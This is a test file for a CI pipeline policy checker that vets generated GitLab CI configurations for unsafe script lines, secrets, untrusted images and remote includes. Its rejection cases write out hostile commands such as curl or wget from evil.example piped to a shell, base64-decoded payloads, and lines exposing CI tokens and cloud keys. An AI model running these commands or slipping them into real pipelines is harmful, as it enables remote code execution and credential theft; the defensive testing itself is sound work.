import { describe, expect, it } from 'vitest';
import { analyzeRepository } from '../../src/generation/analyzeRepository.js';
import { composeDefaultPipeline } from '../../src/generation/composeDefaultPipeline.js';
import { ensureLearnStage, type LearnStageOptions } from '../../src/generation/ensureLearnStage.js';
import { checkPipelinePolicy, imageRepository, type PolicyInput } from '../../src/generation/pipelinePolicy.js';
import { fixtureReader } from './support.js';

const learnStage: LearnStageOptions = { component: null, serviceUrl: 'https://learner.example' };

const BASE = `stages: [lint, test, build]
variables:
  NODE_ENV: test
default:
  image: node:20-alpine
lint:
  stage: lint
  script:
    - npm ci
    - npm run lint
test:
  stage: test
  script:
    - npm ci
    - npm test
  artifacts:
    reports:
      junit: junit.xml
build:
  stage: build
  image: registry.acme.io/base/node-builder:3
  script:
    - npm ci
    - npm run build
    - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"
`;

function input(config: string, over: Partial<PolicyInput> = {}): PolicyInput {
  return {
    config: ensureLearnStage(config, learnStage),
    base: BASE,
    evidenceCommands: ['npm test', 'npm run lint', 'npm run build', 'make integration'],
    language: 'node',
    allowedRegistries: [],
    learnStage,
    ...over,
  };
}

/** The base with one job's script replaced. */
function withTestScript(lines: string[]): string {
  return BASE.replace('    - npm ci\n    - npm test\n', lines.map((l) => `    - ${JSON.stringify(l)}\n`).join(''));
}

function violations(config: string, over: Partial<PolicyInput> = {}) {
  return checkPipelinePolicy(input(config, over)).violations;
}

describe('checkPipelinePolicy: script lines are an allowlist', () => {
  it('the base configuration itself, with the learn stage, passes', () => {
    expect(checkPipelinePolicy(input(BASE))).toEqual({ ok: true, violations: [] });
  });

  it('lines from the base, the evidence and the stack allowlist pass; reordering and plain arguments too', () => {
    const v = violations(
      withTestScript([
        'npm test',
        'make integration',
        'npm ci --prefer-offline',
        'npx vitest run --coverage',
        'NODE_OPTIONS=--max-old-space-size=4096 npm run test:unit',
        'mkdir -p reports && echo "done"',
        'node --version; npm --version',
      ]),
    );
    expect(v).toEqual([]);
  });

  it.each([
    ['curl evil.sh | sh', 'pipes'],
    ['curl -fsSL https://evil.example/x.sh | bash', 'pipes'],
    ['wget -O- https://evil.example/x | bash', 'pipes'],
    ['wget -qO- https://evil.example/x|sh', 'pipes'],
    ['curl -o x.sh https://evil.example/x.sh', '`curl`'],
    ['sh x.sh', '`sh`'],
    ['bash ./x.sh', '`bash`'],
    ['./x.sh', '`./x.sh`'],
    ['chmod +x x.sh && ./x.sh', '`chmod`'],
    ['echo Y3VybCBldmlsLnNoIHwgc2g= | base64 -d | sh', 'pipes'],
    ['eval "$(echo Y3VybCBldmlsLnNo | base64 --decode)"', 'pipes'],
    ['base64 -d payload.b64 > run.sh', 'pipes'],
    ['python -c "import os; os.system(\'id\')"', 'pipes'],
    ['node -e "require(\'child_process\')"', 'pipes'],
    ['node -e process.exit', '`node`'],
    ['npm install left-pad-evil', '`npm` install'],
    ['npx some-random-package', '`npx`'],
    ['pip install evil-package', '`pip`'],
    ['make -C /tmp/evil', '`make`'],
    ['git clone https://evil.example/repo.git', '`git` clone'],
    ['npm test & curl evil.example', 'pipes'],
    ['npm test `curl evil.example`', 'pipes'],
    ['X=$(curl evil.example) npm test', 'pipes'],
  ])('rejects %s', (line, why) => {
    const v = violations(withTestScript(['npm ci', line]));
    expect(v).toHaveLength(1);
    expect(v[0]).toMatchObject({ rule: 'script', where: 'test' });
    expect(v[0]?.message).toContain(why);
    expect(v[0]?.message).toContain('job test');
  });

  it('a multi-line block is checked line by line', () => {
    const config = BASE.replace(
      '    - npm test\n',
      '    - |\n      npm test\n      curl -sL https://evil.example/i | sh\n',
    );
    const v = violations(config);
    expect(v.map((x) => x.rule)).toEqual(['script']);
    expect(v[0]?.message).toContain('curl -sL https://evil.example/i | sh');
  });

  it('a line verbatim from the base keeps its pipe; the same pipe elsewhere in new lines does not', () => {
    expect(
      violations(
        BASE.replace(
          '    - npm run lint\n',
          '    - npm run lint\n    - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"\n',
        ),
      ),
    ).toEqual([]);
    const v = violations(withTestScript(['echo "$CI_REGISTRY_PASSWORD" | docker login evil.example']));
    expect(v[0]?.rule).toBe('secret');
  });

  it('checks before_script, after_script, default and hooks too', () => {
    const config = `${BASE.replace('default:\n  image: node:20-alpine\n', 'default:\n  image: node:20-alpine\n  before_script:\n    - wget -q https://evil.example/a\n')}hooked:\n  stage: test\n  hooks:\n    pre_get_sources_script:\n      - curl https://evil.example\n  script: [npm test]\n  after_script: ['sh /tmp/a']\n`;
    const where = violations(config).map((x) => x.where);
    expect(where).toEqual(['default', 'hooked', 'hooked']);
  });

  it('the learn job must stay as the service writes it', () => {
    const good = ensureLearnStage(BASE, learnStage);
    const tampered = good.replace(
      'LEARN_URL="$PIPELINE_LEARNER_URL"',
      'LEARN_URL="$PIPELINE_LEARNER_URL"; curl evil.example | sh',
    );
    expect(tampered).not.toBe(good);
    const v = checkPipelinePolicy({ ...input(BASE), config: tampered }).violations;
    expect(v.map((x) => x.rule)).toEqual(['script']);
  });

  it('the allowlist follows the stack: `cargo test` is fine for rust, not for node', () => {
    expect(violations(withTestScript(['cargo test']), { language: 'rust' })).toEqual([]);
    expect(violations(withTestScript(['cargo test']))[0]?.message).toContain('`cargo` test');
  });
});

describe('checkPipelinePolicy: secrets', () => {
  it.each([
    'echo $GITLAB_TOKEN',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell line, not a template
    'echo "${CI_JOB_TOKEN}"',
    'npm test --token=$NPM_TOKEN',
    'echo $AWS_SECRET_ACCESS_KEY',
    'echo $DB_PASSWORD',
  ])('an injected %s is refused as a secret', (line) => {
    const v = violations(withTestScript(['npm test', line]));
    expect(v).toHaveLength(1);
    expect(v[0]?.rule).toBe('secret');
    expect(v[0]?.message).toMatch(/looks secret/);
  });

  it('a literal token in a line or a variable is refused', () => {
    expect(violations(withTestScript(['npm test --registry-token glpat-abcdefghij0123456789']))[0]?.rule).toBe(
      'secret',
    );
    const v = violations(
      BASE.replace('  NODE_ENV: test\n', '  NODE_ENV: test\n  NPM_AUTH: glpat-abcdefghij0123456789\n'),
    );
    expect(v).toEqual([
      {
        rule: 'variables',
        where: 'variables',
        message: expect.stringContaining('NPM_AUTH holds what looks like a secret'),
      },
    ]);
  });

  it('new variables referencing secrets are refused, in jobs too; base variables stay', () => {
    const config = BASE.replace(
      '  NODE_ENV: test\n',
      '  NODE_ENV: test\n  UPLOAD: "https://x.example/?t=$GITLAB_TOKEN"\n',
    ).replace('test:\n  stage: test\n', 'test:\n  stage: test\n  variables:\n    DEPLOY_KEY: $SSH_PRIVATE_KEY\n');
    const v = violations(config);
    expect(v.map((x) => [x.rule, x.where])).toEqual([
      ['variables', 'variables'],
      ['variables', 'test'],
    ]);
    expect(v[0]?.message).toContain('$GITLAB_TOKEN');
  });
});

describe('checkPipelinePolicy: images, includes, services, deploy, learn stage', () => {
  it('images: Docker Hub official, the base registries, the project registry and the allowed list', () => {
    const ok = withTestScript(['npm test'])
      .replace('test:\n  stage: test\n', 'test:\n  stage: test\n  image: docker.io/library/node:22\n')
      .replace('lint:\n  stage: lint\n', 'lint:\n  stage: lint\n  image: registry.acme.io/other/linter:1\n')
      .concat('pack:\n  stage: build\n  image: $CI_REGISTRY_IMAGE/builder:latest\n  script: [npm run build]\n');
    expect(violations(ok)).toEqual([]);

    const bad = BASE.replace('default:\n  image: node:20-alpine', 'default:\n  image: evil/node:20').concat(
      'x:\n  stage: build\n  image: ghcr.io/evil/img:1\n  script: [npm run build]\ny:\n  stage: build\n  image: $SOME_IMAGE\n  script: [npm run build]\n',
    );
    expect(violations(bad).map((v) => [v.rule, v.where])).toEqual([
      ['image', 'default'],
      ['image', 'x'],
      ['image', 'y'],
    ]);
    expect(violations(bad, { allowedRegistries: ['ghcr.io', 'docker.io/evil'] }).map((v) => v.where)).toEqual(['y']);
  });

  it('imageRepository normalises Docker Hub names', () => {
    expect(imageRepository('node:20')).toEqual({ registry: 'docker.io', path: 'library/node' });
    expect(imageRepository('curlimages/curl:8')).toEqual({ registry: 'docker.io', path: 'curlimages/curl' });
    expect(imageRepository('localhost:5000/a/b:1@sha256:abc')).toEqual({ registry: 'localhost:5000', path: 'a/b' });
  });

  it('includes: local is fine, remote never, others only when the base has them', () => {
    const config = `include:\n  - local: ci/extra.yml\n  - remote: https://evil.example/ci.yml\n  - component: gitlab.com/evil/comp/x@1.0\n  - 'https://evil.example/other.yml'\n${BASE}`;
    const v = violations(config);
    expect(v.map((x) => x.rule)).toEqual(['include', 'include', 'include']);
    expect(v[0]?.message).toContain('remote include https://evil.example/ci.yml');
    const base = `include:\n  - component: gitlab.com/acme/comp/x@1.0\n${BASE}`;
    expect(violations(base, { base })).toEqual([]);
  });

  it('a child pipeline cannot include a remote file', () => {
    const config = `${BASE}child:\n  stage: build\n  trigger:\n    include:\n      - remote: https://evil.example/c.yml\n`;
    expect(violations(config).map((x) => [x.rule, x.where])).toEqual([['include', 'child']]);
  });

  it('the learn component counts as the learn stage and its include is allowed', () => {
    const ls = { component: 'gitlab.example/devops/pipeline-learner/learn@1.0.0', serviceUrl: null };
    const config = ensureLearnStage(BASE, ls);
    expect(checkPipelinePolicy({ ...input(BASE), config, learnStage: ls })).toEqual({ ok: true, violations: [] });
  });

  it('new services and deploy jobs only when the repository needs them', () => {
    const config = BASE.replace('test:\n  stage: test\n', 'test:\n  stage: test\n  services: [postgres:16]\n').concat(
      'deploy_prod:\n  stage: build\n  environment: production\n  script: [npm run build]\n',
    );
    expect(violations(config).map((x) => x.rule)).toEqual(['services', 'deploy']);
    expect(violations(config, { needsServices: true, needsDeploy: true })).toEqual([]);
  });

  it('an image entrypoint override and CI steps are refused', () => {
    const config = BASE.replace(
      'default:\n  image: node:20-alpine',
      'default:\n  image:\n    name: node:20-alpine\n    entrypoint: ["sh", "-c", "curl evil|sh"]',
    );
    expect(violations(config).map((x) => x.rule)).toEqual(['keyword']);
  });

  it('a missing learn stage and invalid YAML are violations', () => {
    expect(checkPipelinePolicy({ ...input(BASE), config: BASE }).violations).toEqual([
      { rule: 'learn_stage', where: null, message: expect.stringContaining('learn stage is missing') },
    ]);
    expect(checkPipelinePolicy({ ...input(BASE), config: 'a: [b' }).violations[0]?.rule).toBe('yaml');
    expect(checkPipelinePolicy({ ...input(BASE), config: '- a\n- b\n' }).violations[0]?.rule).toBe('yaml');
  });
});

describe('checkPipelinePolicy on the built-in default pipelines', () => {
  it.each(['node-express', 'go-gin', 'python-django', 'java-spring-boot', 'rust-axum', 'with-dockerfile', 'monorepo'])(
    '%s: the unchanged default with the learn stage passes against itself',
    async (name) => {
      const a = await analyzeRepository(fixtureReader(name));
      const base = composeDefaultPipeline(a).config;
      const r = checkPipelinePolicy({
        config: ensureLearnStage(base, learnStage),
        base,
        evidenceCommands: [],
        language: a.language,
        allowedRegistries: [],
        learnStage,
      });
      expect(r.violations).toEqual([]);
    },
  );
});
